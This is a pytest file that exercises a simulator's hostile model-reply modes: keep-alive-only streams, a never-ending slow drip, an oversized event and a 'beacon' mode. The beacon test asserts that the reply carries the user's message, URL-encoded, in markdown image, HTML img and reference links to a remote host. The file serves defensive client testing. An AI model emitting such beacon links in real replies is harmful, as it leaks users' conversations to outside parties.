"""The hostile model replies, as a client on the wire sees them: each fault mode's bytes."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from vultr_core.simulator import DEMO_INFERENCE_KEY, Simulator
from vultr_core.simulator.inference_hostile import (
    BEACON,
    BEACON_HOST,
    KEEP_ALIVE_ONLY,
    OVERSIZED_EVENT,
    OVERSIZED_EVENT_BYTES,
    SLOW_DRIP,
)

from .conftest import NOW

BASE_URL = "https://api.vultrinference.com/v1"
MODEL = "kimi-k2-instruct"
SAID = "Our launch code is tangerine-42"


class RecordingSleep:
    def __init__(self) -> None:
        self.calls: list[float] = []

    def __call__(self, seconds: float) -> None:
        self.calls.append(seconds)


@pytest.fixture
def sleeps() -> RecordingSleep:
    return RecordingSleep()


@pytest.fixture
def sim(sleeps: RecordingSleep) -> Simulator:
    return Simulator(size="empty", now=NOW, token_sleep=sleeps)


@pytest.fixture
def api(sim: Simulator) -> Iterator[httpx.Client]:
    headers = {"Authorization": f"Bearer {DEMO_INFERENCE_KEY}"}
    with httpx.Client(base_url=BASE_URL, transport=sim.transport(), headers=headers) as client:
        yield client


def body(stream: bool) -> dict[str, Any]:
    return {"model": MODEL, "messages": [{"role": "user", "content": SAID}], "stream": stream}


def first_pieces(api: httpx.Client, count: int, *, stream: bool = True) -> list[bytes]:
    with api.stream("POST", "/chat/completions", json=body(stream)) as response:
        assert response.status_code == 200
        return list(itertools.islice(response.iter_raw(), count))


def test_keep_alive_only_sends_comments_and_never_a_token(
    sim: Simulator, api: httpx.Client, sleeps: RecordingSleep
) -> None:
    sim.set_faults(hostile_reply=KEEP_ALIVE_ONLY, hostile_interval_ms=250)
    assert first_pieces(api, 50) == [b": keep-alive\n\n"] * 50
    assert set(sleeps.calls) == {0.25}
    assert first_pieces(api, 20, stream=False) == [b" "] * 20


def test_slow_drip_sends_a_token_per_interval_and_never_ends(
    sim: Simulator, api: httpx.Client, sleeps: RecordingSleep
) -> None:
    sim.set_faults(hostile_reply=SLOW_DRIP)
    pieces = first_pieces(api, 500)
    events = [json.loads(piece.removeprefix(b"data: ")) for piece in pieces]
    assert all(not e["choices"][0]["finish_reason"] for e in events)
    assert all(e["choices"][0]["delta"]["content"] for e in events[1:])
    assert sleeps.calls[:499] == [1.0] * 499
    sleeps.calls.clear()
    whole = first_pieces(api, 30, stream=False)
    assert b"".join(whole) == b'{"id":"chatcmpl-' + b"".join(whole)[16:30]
    assert {len(piece) for piece in whole} == {1}


@pytest.mark.parametrize("stream", [True, False])
def test_beacon_reply_carries_the_conversation_to_a_remote_host(
    sim: Simulator, api: httpx.Client, stream: bool
) -> None:
    sim.set_faults(hostile_reply=BEACON)
    response = api.post("/chat/completions", json=body(stream))
    if stream:
        chunks = [json.loads(line[6:]) for line in response.text.splitlines() if line[6:7] == "{"]
        text = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks if c["choices"])
    else:
        text = response.json()["choices"][0]["message"]["content"]
    leak = "Our%20launch%20code%20is%20tangerine-42"
    assert f"![chart](http://{BEACON_HOST}/inline.png?q={leak})" in text
    assert f'<img src="http://{BEACON_HOST}/html.png?q={leak}">' in text
    assert f"[beacon]: http://{BEACON_HOST}/reference.png?q={leak}" in text


def test_oversized_event_is_one_16_mib_event_in_4_kib_writes(
    sim: Simulator, api: httpx.Client
) -> None:
    sim.set_faults(hostile_reply=OVERSIZED_EVENT)
    with api.stream("POST", "/chat/completions", json=body(True)) as response:
        pieces = list(response.iter_raw())
    events = b"".join(pieces).split(b"\n\n")
    assert len(events[1]) > OVERSIZED_EVENT_BYTES
    assert events[2] == b"data: [DONE]"
    assert max(len(piece) for piece in pieces[1:]) == 4096


def test_an_unknown_mode_is_refused(sim: Simulator, api: httpx.Client) -> None:
    sim.set_faults(hostile_reply="exploding")
    with pytest.raises(ValueError, match="hostile_reply must be one of"):
        api.post("/chat/completions", json=body(True))


def test_reset_switches_the_mode_off(sim: Simulator, api: httpx.Client) -> None:
    sim.set_faults(hostile_reply=KEEP_ALIVE_ONLY)
    sim.faults.reset()
    assert api.post("/chat/completions", json=body(True)).text.endswith("data: [DONE]\n\n")
